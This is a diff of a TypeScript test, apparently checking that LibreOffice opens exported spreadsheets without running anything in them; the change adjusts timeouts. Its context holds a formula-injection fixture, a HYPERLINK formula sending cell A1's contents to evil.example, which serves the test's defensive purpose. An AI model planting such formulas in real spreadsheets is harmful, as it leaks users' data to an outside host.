@@ -22,9 +22,7 @@ import { openTestStore, testFolder } from '../support/store'
 
 const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
-test('LibreOffice opens every export as it was written, and runs nothing in it, whatever anybody typed anywhere', {
-  timeout: 180_000,
-}, async context => {
+test('LibreOffice opens every export as it was written, and runs nothing in it, whatever anybody typed anywhere', async context => {
   // it takes some seconds to start
   const { ports, campaign } = await hostileWorld()
   const folder = testFolder()
@@ -97,7 +95,7 @@ async function convert(context: TestContext, folder: string, names: readonly str
     await promisify(execFile)(
       'soffice',
       [profile, '--headless', '--convert-to', 'fods', '--outdir', folder, ...files],
-      { timeout: 120_000 },
+      { timeout: 300_000 },
     )
   } catch (fault) {
     if ((fault as NodeJS.ErrnoException).code !== 'ENOENT') throw fault
